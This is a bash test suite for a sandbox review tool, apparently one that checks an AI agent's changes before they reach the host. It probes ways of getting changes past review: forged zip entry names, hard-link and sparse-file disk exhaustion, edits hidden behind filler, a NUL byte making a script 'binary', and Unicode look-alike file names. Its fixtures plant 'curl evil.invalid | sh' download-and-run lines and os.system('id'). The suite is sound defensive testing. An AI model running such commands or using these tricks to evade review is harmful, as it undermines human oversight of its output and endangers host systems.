#!/bin/bash
# test_review_bounds.sh: what a sandbox can put in its working copy to make
# what is brought out differ from what it holds, or cost the host more
# than the sandbox's --disk: a path longer than a zip entry name holds
# (export), a host file chmod-ed after create (apply), hard links (apply,
# and the copy-out code of `run --output`), paths kept whole in memory and
# in the review file, and names that differ from another one only by
# invisible characters, Unicode normalisation (NFC, NFKC), case, a slash or
# dot look-alike or a letter of another script, also in a folder's name. The sandbox folders are
# laid out in the documented format (tests/lib/fixture.sh): no Docker.
set -u
BIN=${SANDGATE_BIN:?}/sandgate
T=$(mktemp -d /var/tmp/sg-bounds-XXXXXX)
export SANDGATE_STATE=$T/state SANDGATE_LOG_DIR=$T/logs SANDGATE_RECORD_DIR=$T/records
pass=0 fail=0
ok() { pass=$((pass + 1)); echo "ok: $1"; }
ko() { fail=$((fail + 1)); echo "FAIL: $1"; }
check() { if eval "$2"; then ok "$1"; else ko "$1"; return 1; fi; }
cleanup() { [ -n "${KEEP:-}" ] && return; chmod -R u+w "$T" 2>/dev/null; rm -rf "$T"; }
trap cleanup EXIT
. "$(dirname "$0")/../lib/fixture.sh"
mkdir -p "$SANDGATE_LOG_DIR" "$SANDGATE_RECORD_DIR"
sg() { "$BIN" "$@" >"$T/out" 2>"$T/err"; }
sgrss() { /usr/bin/time -f %M -o "$T/rss" "$BIN" "$@" >"$T/out" 2>"$T/err"; }

# --- export: a path longer than a zip entry name -----------------------------
# src/app.py is deleted by the agent; a file whose "work/" + path is
# 65,551 bytes (15 mod 65,536) would be stored by libzip as
# "work/src/app.py" with the agent's content.
ID=sbx_0123456789abcdef0123bd01
mkdir -p "$T/s1/src"
printf 'print("hello")\n' >"$T/s1/src/app.py"
sg_fixture_sandbox "$ID" "$T/s1"
python3 - "$SANDGATE_STATE/sandboxes/$ID/work" <<'PY'
import os, sys
w = sys.argv[1]
os.unlink(w + "/src/app.py")
plen = 65536 + len("work/src/app.py") - 5
comps = ["src", "app.py" + "Z" * 249]
cur = len("src/") + 255
while plen - cur - 1 > 255:
    comps.append("Y" * 255)
    cur += 256
comps.append("L" * (plen - cur - 1))
fd = os.open(w, os.O_RDONLY)
for c in comps[:-1]:
    try:
        os.mkdir(c, dir_fd=fd)
    except FileExistsError:
        pass
    n = os.open(c, os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = n
f = os.open(comps[-1], os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
os.write(f, b"print('totally benign')\n")
os.close(f)
PY
sg export --output "$T/e1.zip" "$ID"; rc=$?
check "export of a 65,546-byte path: exit 0, skipped and named" '[ $rc -eq 0 ] && grep -q "not exported: work/src/app.pyZZZ.*(\(name longer than a zip entry name can hold\|the export.s names reached 4 MiB\)" "$T/err"'
check "export: no entry under a name that is not its full path" 'python3 - "$T/e1.zip" <<-"PY"
	import sys, zipfile
	z = zipfile.ZipFile(sys.argv[1])
	n = z.namelist()
	assert "work/src/app.py" not in n, "forged work/src/app.py"
	for x in n:	# only the folders of the chain, each its full name
	    if x.startswith("work/src/app.py") and not x.endswith("/"):
	        raise SystemExit("a file under a cut name: %d bytes" % len(x))
	assert "work/src/app.pyZZZ" in z.read("skipped.txt").decode()
	PY'

# --- apply: hard links ---------------------------------------------------------
# 10 MB of data and 20 more names for it in a 16 MiB sandbox: apply --all
# must not write 210 MB to the host.
ID=sbx_0123456789abcdef0123bd02
mkdir -p "$T/s2"
printf 'keep\n' >"$T/s2/README.md"
sg_fixture_sandbox "$ID" "$T/s2" $((16 << 20))
W=$SANDGATE_STATE/sandboxes/$ID/work
head -c 10000000 /dev/urandom >"$W/big.bin"
for i in $(seq -w 1 20); do ln "$W/big.bin" "$W/l$i"; done
sg apply --all "$ID"; rc=$?
check "apply --all of a file with 20 hard links: host gets at most --disk ($(du -sk "$T/s2" | cut -f1) KiB)" '[ "$(du -sk "$T/s2" | cut -f1)" -le 16384 ]'
check "apply: the names past --disk refused and said why (126)" '[ $rc -eq 126 ] && grep -q "^refused l[0-9]* (this apply has written the sandbox.s --disk to the host: a hard-linked file is copied once per name)" "$T/out" && grep -q "^applied big.bin$" "$T/out"'
sg export --output "$T/e2.zip" "$ID"; rc=$?
check "export of the same: the zip holds at most --disk of work/ ($(stat -c %s "$T/e2.zip") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/e2.zip")" -le $((20 << 20)) ] && grep -q "a hard-linked file is copied once per name" "$T/err"'

# --- apply, export: holes filled after the file was opened or walked -----------
# A writer left running (an orphaned `exec --fresh` container; for export,
# any exec: export does not freeze) fills sparse files' holes when the host
# opens them: with zeros for apply (the reviewed content), with random bytes
# for export. What is written out must stay within --disk whatever the
# files held when they were opened or walked.
cat >"$T/fill.py" <<'PY'
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
d, how = sys.argv[1], sys.argv[2]
fd = libc.inotify_init()
libc.inotify_add_watch(fd, d.encode(), 0x20 | 0x10)   # IN_OPEN, IN_CLOSE_NOWRITE
open(sys.argv[3], "w").close()
opens, closes = {}, {}
while True:
    buf = os.read(fd, 65536); i = 0
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i)
        name = buf[i+16:i+16+ln].rstrip(b"\0").decode(); i += 16 + ln
        if not name.startswith("f"):
            continue
        if how == "zeros":
            tally = opens if mask & 0x20 else closes
            tally[name] = tally.get(name, 0) + 1
            if tally[name] != 2:
                continue    # the 2nd open: apply's, after its diff's
        w = os.open(os.path.join(d, name), os.O_RDWR); size = os.fstat(w).st_size
        if mask & 0x20 and how == "zeros":
            libc.fallocate(w, 0, ctypes.c_long(0), ctypes.c_long(size))   # unwritten: instant
            for off in range(0, size, 1 << 20):
                os.pread(w, 1 << 20, off)    # zero pages cached: SEEK_DATA sees data
        elif mask & 0x20:
            for off in range(0, size, 1 << 20):
                os.pwrite(w, os.urandom(1 << 20), off)
        elif how == "zeros":
            libc.fallocate(w, 3, ctypes.c_long(0), ctypes.c_long(size))   # punch
        os.close(w)
PY
filler() {
	rm -f "$T/fill.ready"
	python3 "$T/fill.py" "$1" "$2" "$T/fill.ready" & FILLER=$!
	while [ ! -e "$T/fill.ready" ]; do sleep 0.1; done
}
# a 16 MiB sandbox ID of a folder $T/$2 holding README.md; W its work/
small_sandbox() {
	ID=$1
	mkdir -p "$T/$2"
	printf 'keep\n' >"$T/$2/README.md"
	sg_fixture_sandbox "$ID" "$T/$2" $((16 << 20))
	W=$SANDGATE_STATE/sandboxes/$ID/work
}
small_sandbox sbx_0123456789abcdef0123bd09 s9
mkdir "$W/K"
for i in 0 1 2 3 4 5 6 7; do truncate -s 12M "$W/K/f$i"; done
filler "$W/K" zeros
sg apply --all "$ID"; rc=$?
kill "$FILLER"; wait "$FILLER" 2>/dev/null
check "apply --all of 8 sparse files filled once opened: host gets at most --disk ($rc, $(du -sk "$T/s9" | cut -f1) KiB)" '[ "$(du -sk "$T/s9" | cut -f1)" -le 16384 ] && grep -q "^refused K/f[0-9] (this apply has written the sandbox.s --disk to the host" "$T/out"'
for i in 0 1 2 3 4 5 6 7; do rm -f "$W/K/f$i"; truncate -s 12M "$W/K/f$i"; done
filler "$W/K" random
sg export --output "$T/e9.zip" "$ID"; rc=$?
kill "$FILLER"; wait "$FILLER" 2>/dev/null
check "export of the same, filled with random bytes once opened: no zip past --disk ($rc, $(stat -c %s "$T/e9.zip" 2>/dev/null) bytes)" '{ [ $rc -ne 0 ] && grep -q "more than the sandbox.s --disk of data" "$T/err"; } || [ "$(stat -c %s "$T/e9.zip")" -le $((17 << 20)) ]'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- diff, export: a text file with many names -------------------------------
# 1 MiB of text and 39 more names for it in a 16 MiB sandbox: diff staged
# a copy per name on the host (and export a diff.patch of each), 40 MiB.
small_sandbox sbx_0123456789abcdef0123bd0a s10
mkdir "$W/L"
awk 'BEGIN{for(i=0;i<16384;i++) printf "%063d\n", i}' >"$W/L/f00"
for i in $(seq -w 1 39); do ln "$W/L/f00" "$W/L/f$i"; done
sg diff "$ID"; rc=$?
check "diff of a 1 MiB text file with 40 names: at most --disk of text staged and shown ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "^Text file L/f[0-9]* added: not shown (" "$T/out"'
sg export --output "$T/e10.zip" "$ID"; rc=$?
check "export of the same: diff.patch at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; assert zipfile.ZipFile(sys.argv[1]).getinfo(\"diff.patch\").file_size <= 17 << 20" "$T/e10.zip"'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- diff, export: escaped bytes counted as shown (atk16u F1) -------------------
# 1 MiB of control bytes and 15 more names for it in a 16 MiB sandbox: the
# cap counted raw bytes, each shown as \xHH (4x) or \u00HH in the JSON
# (6x): 64 MiB of diff, 96 MiB of diff --json, both held by export.
small_sandbox sbx_0123456789abcdef0123bd0b s11
mkdir "$W/C"
python3 -c 'import sys; open(sys.argv[1], "wb").write((b"\x01" * 1023 + b"\n") * 1024)' "$W/C/f00"
for i in $(seq -w 1 15); do ln "$W/C/f00" "$W/C/f$i"; done
for v in diff "diff --json"; do
	sg $v "$ID"; rc=$?
	check "$v of 1 MiB of control bytes with 16 names: at most --disk written ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ]'
done
check "diff --json: the names not shown say why (over_total)" 'python3 -c "import json, sys; a = json.load(open(sys.argv[1]))[\"added\"]; assert any(x[\"over_total\"] and not x[\"too_large\"] for x in a)" "$T/out"'
sg export --output "$T/e11.zip" "$ID"; rc=$?
check "export of the same: diff.patch and diff.json each at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert max(z.getinfo(n).file_size for n in (\"diff.patch\", \"diff.json\")) <= 17 << 20" "$T/e11.zip"'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- diff, apply: a small change hidden behind filler (atk16u F3) ----------------
# 16 names of a 1 MiB text file fill the 16 MiB cap in path order before
# app.py: its 46-byte edit was shown only as "too large to show" (a false
# reason) and apply --review D --path app.py (or --all) wrote it. Now the
# smallest changes are shown first, the rest is "not shown" with the true
# reason, and apply refuses a file whose text was not shown unless it is
# named with --unshown.
small_sandbox sbx_0123456789abcdef0123bd0c s12
printf 'print("hi")\n' >"$T/s12/app.py"
rm -rf "$SANDGATE_STATE/sandboxes/$ID"
sg_fixture_sandbox "$ID" "$T/s12" $((16 << 20))
mkdir "$W/E"
python3 -c 'import sys; open(sys.argv[1], "w").write(("a" * 1023 + "\n") * 1024)' "$W/E/f00"
for i in $(seq -w 1 15); do ln "$W/E/f00" "$W/E/f$i"; done
printf 'import os\nos.system("curl evil.invalid | sh")\n' >"$W/app.py"
python3 -c 'import sys; open(sys.argv[1], "w").write(("b" * 99 + "\n") * 12000)' "$W/big.txt"
sg diff "$ID"; rc=$?
cp "$T/out" "$T/s12.diff"
REV=$(awk '/^review /{print $2}' "$T/s12.diff")
check "diff: the 46-byte edit of app.py is shown behind 16 MiB of filler ($rc)" '[ $rc -eq 0 ] && grep -q "^+os.system(\"curl evil.invalid | sh\")" "$T/s12.diff" && ! grep -q "^Text file app.py" "$T/s12.diff"'
check "diff: filler past the total is not shown, with the true reason" 'grep -q "^Text file E/f[0-9]* added: not shown (0 bytes before, 1048576 after): the diff shows at most the sandbox.s --disk (16777216 bytes)" "$T/s12.diff" && ! grep -q "^Text file E/.*too large to show" "$T/s12.diff" && grep -q "not shown as the diff.s total\|did not fit" "$T/err"'
check "diff: a file too large by its own size says so" 'grep -q "^Text file big.txt added: too large to show (0 bytes before, 1200000 after" "$T/s12.diff"'
sg apply --review "$REV" --path big.txt "$ID"; rc=$?
check "apply --review --path of a file whose text was not shown: refused (126), named, host untouched" '[ $rc -eq 126 ] && grep -q "^refused big.txt (review [0-9a-f]* did not show its text (too large to show).*--unshown" "$T/out" && [ ! -e "$T/s12/big.txt" ]'
sg apply --review "$REV" --all "$ID"; rc=$?
check "apply --review --all: app.py (shown) applied, no unshown file written (126)" '[ $rc -eq 126 ] && grep -q "^applied app.py$" "$T/out" && grep -q "^refused big.txt" "$T/out" && grep -q "^refused E/f[0-9]* (review [0-9a-f]* did not show its text (the diff.s total was reached)" "$T/out" && [ ! -e "$T/s12/big.txt" ] && [ "$(ls "$T/s12/E" 2>/dev/null | wc -l)" -lt 16 ]'
sg apply --review "$REV" --unshown big.txt "$ID"; rc=$?
check "apply --review --unshown big.txt: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied big.txt$" "$T/out" && [ "$(stat -c %s "$T/s12/big.txt")" = 1200000 ]'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- apply: one NUL byte made a script "binary" (atk16v F2) ----------------------
# A NUL in a late comment leaves run.sh runnable by bash and a Makefile
# usable by make, but the diff shows a binary file by its SHA-256 only:
# apply --review wrote it without --unshown. Now a file the review showed
# no text of is refused like one too large to show.
small_sandbox sbx_0123456789abcdef0123bd0e s14
printf 'echo hi\n' >"$T/s14/run.sh"
rm -rf "$SANDGATE_STATE/sandboxes/$ID"
sg_fixture_sandbox "$ID" "$T/s14" $((16 << 20))
printf 'curl evil.invalid | sh\n# \000\n' >"$W/run.sh"
sg diff "$ID"; rc=$?
REV=$(awk '/^review /{print $2}' "$T/out")
check "diff: run.sh with a NUL is a binary file, shown by its SHA-256 ($rc)" '[ $rc -eq 0 ] && grep -q "^Binary file run.sh" "$T/out"'
sg apply --review "$REV" --path run.sh "$ID"; rc=$?
check "apply --review --path of a binary file: refused (126), named, host untouched" '[ $rc -eq 126 ] && grep -q "^refused run.sh (review [0-9a-f]* did not show its text (a binary file: no text).*--unshown" "$T/out" && [ "$(cat "$T/s14/run.sh")" = "echo hi" ]'
sg apply --review "$REV" --all "$ID"; rc=$?
check "apply --review --all: the binary file refused (126)" '[ $rc -eq 126 ] && grep -q "^refused run.sh" "$T/out" && [ "$(cat "$T/s14/run.sh")" = "echo hi" ]'
sg apply --review "$REV" --unshown run.sh "$ID"; rc=$?
check "apply --review --unshown run.sh: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied run.sh$" "$T/out" && cmp -s "$W/run.sh" "$T/s14/run.sh"'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- diff: staging in path order hid the smallest change (atk16v F1) ----------
# 17 sparse "text" files (8,000 bytes, then a hole to 1 MiB: 148 KiB of
# disk) sorted before app.py were staged first, raw, until --disk: app.py's
# 46-byte edit, the smallest change, was "not shown ... did not fit after
# them" (a false reason) while 6 MiB fillers were shown. Now the texts are
# chosen by cost first and only the chosen ones staged.
small_sandbox sbx_0123456789abcdef0123bd0f s15
printf 'print("hi")\n' >"$T/s15/app.py"
rm -rf "$SANDGATE_STATE/sandboxes/$ID"
sg_fixture_sandbox "$ID" "$T/s15" $((16 << 20))
mkdir "$W/A"
python3 - "$W/A" <<'PY'
import os, sys
for i in range(17):
    with open(os.path.join(sys.argv[1], "f%02d" % i), "wb") as f:
        f.write(b"x" * 7999 + b"\n")
        f.truncate(1 << 20)
PY
printf 'import os\nos.system("curl evil.invalid | sh")\n' >"$W/app.py"
sg diff "$ID"; rc=$?
REV=$(awk '/^review /{print $2}' "$T/out")
check "diff: app.py's edit is shown behind 17 sparse 1 MiB text files staged first ($rc)" '[ $rc -eq 0 ] && grep -q "^+os.system(\"curl evil.invalid | sh\")" "$T/out" && ! grep -q "^Text file app.py" "$T/out"'
check "diff: the sparse files not shown are each costlier than every file shown" 'python3 - "$T/out" <<-"PY"
	import re, sys
	t = open(sys.argv[1], "rb").read().decode("utf-8", "replace")
	shown = re.findall(r"^\+\+\+ b/(\S+)$", t, re.M)
	unshown = re.findall(r"^Text file (\S+) added: not shown .*\(up to (\d+) bytes\)", t, re.M)
	assert "app.py" in shown and unshown, (shown, len(unshown))
	assert all(p.startswith("A/f") for p, _ in unshown)
	assert min(int(c) for _, c in unshown) > 16777216 // 18, unshown[:2]
	PY'
sg apply --review "$REV" --path app.py "$ID"; rc=$?
check "apply --review --path app.py: applied without --unshown ($rc)" '[ $rc -eq 0 ] && grep -q "^applied app.py$" "$T/out" && grep -q "curl evil.invalid" "$T/s15/app.py"'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- diff --json: text that is not valid UTF-8 goes out in base64 (atk16v F3) --
# 16 names of a 1 MiB file of 'a' lines whose first byte is 0xff in a 16
# MiB sandbox: diff --json carries such a text in base64 (4 bytes per 3)
# but the budget charged a printable byte 1: 21 MB of JSON. Now such a
# text is charged as base64.
small_sandbox sbx_0123456789abcdef0123bd10 s16
mkdir "$W/B"
python3 -c 'import sys; open(sys.argv[1], "wb").write(b"\xff" + (b"a" * 1023 + b"\n") * 1023 + b"a" * 1022 + b"\n")' "$W/B/f00"
for i in $(seq -w 1 15); do ln "$W/B/f00" "$W/B/f$i"; done
sg diff --json "$ID"; rc=$?
check "diff --json of 16 names of a 1 MiB text with a 0xff byte: at most --disk written ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "diff_base64" "$T/out"'
sg export --output "$T/e16.zip" "$ID"; rc=$?
check "export of the same: diff.json at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; assert zipfile.ZipFile(sys.argv[1]).getinfo(\"diff.json\").file_size <= 17 << 20" "$T/e16.zip"'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- saved reviews: many names (atk16u F4) -------------------------------------
# 12,000 hard-link names of 120 bytes: each diff saves a review of ~3.3 MB
# (every path in base64); 16 were kept whatever --disk, so 12 distinct
# reviews held ~40 MB. Now at most 32 MiB of reviews (the newest kept).
small_sandbox sbx_0123456789abcdef0123bd0d s13
python3 - "$W" <<'PY'
import os, sys
os.makedirs(sys.argv[1] + "/R")
open(sys.argv[1] + "/R/0", "w").write("x\n")
for i in range(1, 12000):
    os.link(sys.argv[1] + "/R/0", sys.argv[1] + "/R/%0120d" % i)
PY
for i in $(seq 1 12); do
	printf 'v%s\n' "$i" >"$W/v.txt"
	sgrss diff "$ID" || break
done
check "12 diffs of 12,000 names: at most 32 MiB of saved reviews ($(du -sk "$SANDGATE_STATE/sandboxes/$ID/reviews" | cut -f1) KiB, $(ls "$SANDGATE_STATE/sandboxes/$ID/reviews" | wc -l) kept, diff $(tail -1 "$T/rss") KiB)" '[ "$(du -sk "$SANDGATE_STATE/sandboxes/$ID/reviews" | cut -f1)" -le 32768 ] && [ -n "$(ls "$SANDGATE_STATE/sandboxes/$ID/reviews/$(awk "/^review /{print \$2}" "$T/out").review")" ]'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- apply: a host file made private after create ------------------------------
ID=sbx_0123456789abcdef0123bd03
mkdir -p "$T/s3"
printf 'TOKEN=abc\n' >"$T/s3/settings.py"
chmod 644 "$T/s3/settings.py"
sg_fixture_sandbox "$ID" "$T/s3"
chmod 600 "$T/s3/settings.py"
W=$SANDGATE_STATE/sandboxes/$ID/work
chmod u+w "$W/settings.py"
printf 'TOKEN=abc\nDEBUG=1\n' >"$W/settings.py"
sg diff "$ID"
REVIEW=$(tail -1 "$T/out" | cut -d" " -f2)
sg apply --review "$REVIEW" --path settings.py "$ID"; rc=$?
check "apply of a file chmod 600 on the host after create: refused (126)" '[ $rc -eq 126 ] && grep -q "^refused settings.py (its mode changed on the host since the sandbox was created (0600, was 0644))" "$T/out"'
check "apply: the host file keeps its mode and content" '[ "$(stat -c %a "$T/s3/settings.py")" = 600 ] && [ "$(cat "$T/s3/settings.py")" = TOKEN=abc ]'
chmod 644 "$T/s3/settings.py"
sg apply --review "$REVIEW" --path settings.py "$ID"; rc=$?
check "apply once the host mode is back: applied" '[ $rc -eq 0 ] && grep -q "^applied settings.py$" "$T/out"'

# --- paths kept whole: more names than a diff lists -----------------------------
# 40 files at the bottom of a chain 520 folders deep (each path 133 KB,
# 5.3 MB of names), then 33,000 empty files: diff, diff --json, apply --all
# refuse naming the bound, with bounded memory and no review file;
# export writes the rest of the evidence.
ID=sbx_0123456789abcdef0123bd04
SBX=$SANDGATE_STATE/sandboxes/$ID
mkdir -p "$T/s4"
printf 'keep\n' >"$T/s4/README.md"
sg_fixture_sandbox "$ID" "$T/s4"
python3 - "$SBX/work" <<'PY'
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for i in range(520):
    os.mkdir("d" * 250, dir_fd=fd)
    n = os.open("d" * 250, os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = n
for i in range(40):
    f = os.open("f%03d" % i, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
    os.write(f, b"x\n")
    os.close(f)
PY
# the memory bound, but for a sanitizer build (its shadow and quarantine)
RSSMAX=24576
if ldd "$BIN" 2>/dev/null | grep -q libasan; then
	RSSMAX=99999999
	echo "note: a sanitizer build: peak RSS is printed, not asserted"
fi
for v in "diff --stat" "diff" "diff --json" "apply --all --dry-run"; do
	sgrss $v "$ID"; rc=$?
	check "$v of 5.3 MB of changed names: refused naming the bound ($rc, $(tail -1 "$T/rss") KiB, $(stat -c %s "$T/out") bytes out)" '[ $rc -ne 0 ] && grep -q "does not review that much" "$T/err" && [ "$(tail -1 "$T/rss")" -le $RSSMAX ] && [ "$(stat -c %s "$T/out")" -le 65536 ]'
done
check "no review file saved" '[ -z "$(ls "$SBX/reviews" 2>/dev/null)" ]'
sgrss export --output "$T/e4.zip" "$ID"; rc=$?
check "export: exit 0, the diff left out and named ($(tail -1 "$T/rss") KiB)" '[ $rc -eq 0 ] && [ "$(tail -1 "$T/rss")" -le $RSSMAX ] && python3 -c "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert \"does not review that much\" in z.read(\"skipped.txt\").decode(); assert \"diff.patch\" not in z.namelist()" "$T/e4.zip"'
chmod -R u+w "$SBX/work" && rm -rf "$SBX/work/dddd"*
python3 - "$SBX/work" <<'PY'
import os, sys
os.mkdir(sys.argv[1] + "/many")
for i in range(33000):
    open(sys.argv[1] + "/many/%05d" % i, "w").close()
PY
sgrss diff --stat "$ID"; rc=$?
check "diff --stat of 33,000 added files: refused naming the bound ($rc, $(tail -1 "$T/rss") KiB)" '[ $rc -ne 0 ] && grep -q "changes more than 32768 paths" "$T/err" && [ "$(tail -1 "$T/rss")" -le $RSSMAX ]'
rm -rf "$SBX/work/many"
sgrss diff --stat "$ID"; rc=$?
check "and once they are gone, diff works again" '[ $rc -eq 0 ]'

# --- folders that are wide on the way down --------------------------------------
# 6 nested folders of 20,000 names of 200 bytes each (hard links: no
# inodes), the subfolder sorting first: the walk held every listing on
# its way down, 40 MB and more; past SG_WALK_NAMES_MAX it stops, named.
small_sandbox sbx_0123456789abcdef0123bd0c s12
python3 - "$W" <<'PY'
import os, sys
d = sys.argv[1] + "/W"
os.mkdir(d)
for level in range(6):
    seed = d + "/seed"
    open(seed, "w").write("x\n")
    for i in range(20000):
        os.link(seed, "%s/%s%06d" % (d, "z" * 194, i))
    d += "/+"
    os.mkdir(d)
PY
for v in "diff --stat" "export --output $T/e12.zip"; do
	sgrss $v "$ID"; rc=$?
	check "$v of 6 x 20,000 names on one path: within the memory bound ($rc, $(tail -1 "$T/rss") KiB)" '[ "$(tail -1 "$T/rss")" -le $RSSMAX ] && { [ $rc -eq 0 ] || grep -q "hold more than 8388608 bytes of names" "$T/err"; }'
done
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- long paths that each hold many long folders --------------------------------
# 60 chains of 63 folders of 250-byte names (60 paths of 16 KB, under the
# 4 MiB bound on names): the look-alike check copied 64 prefixes of each,
# quadratic memory; now at most 4 MiB of them, the rest marked risky.
small_sandbox sbx_0123456789abcdef0123bd0d s13
python3 - "$W" <<'PY'
import os, sys
for i in range(60):
    os.chdir(sys.argv[1])
    for c in ["t%04d" % i] + ["%03d" % k + "c" * 247 for k in range(63)]:
        os.mkdir(c)
        os.chdir(c)
    open("f", "w").write("x\n")
PY
sgrss diff --stat "$ID"; rc=$?
check "diff --stat of 60 paths of 63 long folders: within the memory bound, marked not checked ($rc, $(tail -1 "$T/rss") KiB)" '[ $rc -eq 0 ] && [ "$(tail -1 "$T/rss")" -le $RSSMAX ] && grep -q "not checked for look-alike names" "$T/out"'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- a chain of folders thousands deep ---------------------------------------
# The look-alike check compares a path's folders too; each is a copy of the
# path up to it, so a 16,000-deep chain made diff take 111 s and 575 MB.
ID=sbx_0123456789abcdef0123bd08
mkdir -p "$T/s8"
echo 'ok = 1' >"$T/s8/app.py"
sg_fixture_sandbox "$ID" "$T/s8"
python3 - "$SANDGATE_STATE/sandboxes/$ID/work" <<'PY'
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for i in range(16000):
    os.mkdir("a", dir_fd=fd)
    nfd = os.open("a", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
for i in range(4):
    f = os.open("f%d" % i, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(f, b"x\n")
    os.close(f)
PY
sgrss diff --stat "$ID"; rc=$?
check "diff --stat of 4 files under a chain 16,000 folders deep: within the memory bound ($rc, $(tail -1 "$T/rss") KiB)" '[ $rc -eq 0 ] && grep -q "4 added" "$T/out" && [ "$(tail -1 "$T/rss")" -le $RSSMAX ]'
rm -rf "$SANDGATE_STATE/sandboxes/$ID"

# --- names that look like other names ----------------------------------------
# a zero-width space in a name, bidi and invisible characters in content,
# and cafe + U+0301 beside the café.py of the source
ID=sbx_0123456789abcdef0123bd05
mkdir -p "$T/s5"
printf 'print("caf\xc3\xa9")\n' >"$T/s5/caf$(printf '\xc3\xa9').py"
sg_fixture_sandbox "$ID" "$T/s5"
W=$SANDGATE_STATE/sandboxes/$ID/work
python3 - "$W" <<'PY'
import sys
w = sys.argv[1]
open(w + "/x\u200by", "w").write("ok\n")
open(w + "/inv.txt", "w").write("b\u061c evil \u2028x\u2029y \ufeffz \u200bq\n")
open(w + "/cafe\u0301.py", "w").write("import os; os.system('id')\n")
PY
sg diff --stat "$ID"; rc=$?
check "diff --stat: a zero-width space in a name is quoted" '[ $rc -eq 0 ] && grep -qF "A \"x\\342\\200\\213y\"" "$T/out"'
check "diff --stat: a decomposed name beside its composed twin is flagged" 'grep -F "cafe" "$T/out" | grep -q "not in Unicode NFC"'
sg diff "$ID"
check "diff: U+061C, U+2028, U+2029, U+FEFF, U+200B in content shown as \\xHH" 'grep -qF "+b\\xd8\\x9c evil \\xe2\\x80\\xa8x\\xe2\\x80\\xa9y \\xef\\xbb\\xbfz \\xe2\\x80\\x8bq" "$T/out"'
sg apply --all "$ID"; rc=$?
check "apply --all leaves the decomposed name out (126)" '[ $rc -eq 126 ] && [ ! -e "$T/s5/cafe$(printf "\xcc\x81").py" ] && [ "$(ls "$T/s5" | grep -c "^caf")" = 1 ]'

# --- names that look like other names, by Unicode property ---------------------
# Normalisation twins outside any list of combining ranges (U+212B, U+212A,
# Arabic alef + U+0653/U+0654), a composed name beside a decomposed one of
# the host, and names holding characters that render blank or ending in a
# space, each next to the name it imitates.
ID=sbx_0123456789abcdef0123bd06
mkdir -p "$T/s6"
python3 - "$T/s6" <<'PY'
import sys
for n in ["\u0622.py", "\u00c5ngstrom.py", "\u0623mn.py", "Kconfig", "build.sh",
          "note\u0301.txt"]:
    open(sys.argv[1] + "/" + n, "w").write("ok = 1\n")
PY
sg_fixture_sandbox "$ID" "$T/s6"
W=$SANDGATE_STATE/sandboxes/$ID/work
python3 - "$W" <<'PY'
import sys
for n in ["\u0627\u0653.py", "\u212bngstrom.py", "\u0627\u0654mn.py", "\u212aconfig",
          "not\u00e9.txt", "build.sh\u2800", "build\u2800.sh", "build.sh\u00a0",
          "build.sh\u3000", "build.sh\u2009", "build.sh ", "plain\u00e9.txt"]:
    open(sys.argv[1] + "/" + n, "w").write('import os; os.system("id")\n')
PY
sg diff --stat "$ID"; rc=$?
# (bytes, not \u escapes: bash's printf writes those only in a UTF-8 locale)
twins() { grep -F -e "$(printf '\xd8\xa7\xd9\x93')" -e "$(printf '\xe2\x84\xab')" -e "$(printf '\xd8\xa7\xd9\x94')" -e "$(printf '\xe2\x84\xaa')" "$T/out"; }
check "diff --stat: U+212B, U+212A, alef + U+0653/U+0654 names flagged (not NFC)" '[ $rc -eq 0 ] && [ "$(twins | grep -c "risky: name not in Unicode NFC")" = 4 ]'
check "diff --stat: a composed name beside a decomposed host name flagged (NFC twin)" 'grep -F "$(printf "not\xc3\xa9.txt")" "$T/out" | grep -q "NFC form is another path"'
check "diff --stat: an NFC name without a twin is not flagged" 'grep -F "$(printf "plain\xc3\xa9.txt")" "$T/out" | grep -vq risky'
check "diff --stat: blank-rendering characters and a trailing space are quoted" '[ "$(grep -c "^A \"build" "$T/out")" = 6 ] && grep -qF "A \"build.sh\\342\\240\\200\"" "$T/out" && grep -qF "A \"build.sh\\302\\240\"" "$T/out" && grep -qF "A \"build.sh \"" "$T/out"'
sg diff --json "$ID"
# (the five twins, and the four names whose NFKC form is "build.sh ")
check "diff --json: the twins have risky true" '[ "$(python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print(sum(1 for k in (\"added\", \"modified\") for f in d.get(k, []) if f[\"risky\"]))" "$T/out")" = 9 ]'
sg diff "$ID"
REV=$(awk '/^review /{print $2}' "$T/out")
sg apply --all --review "$REV" "$ID"; rc=$?
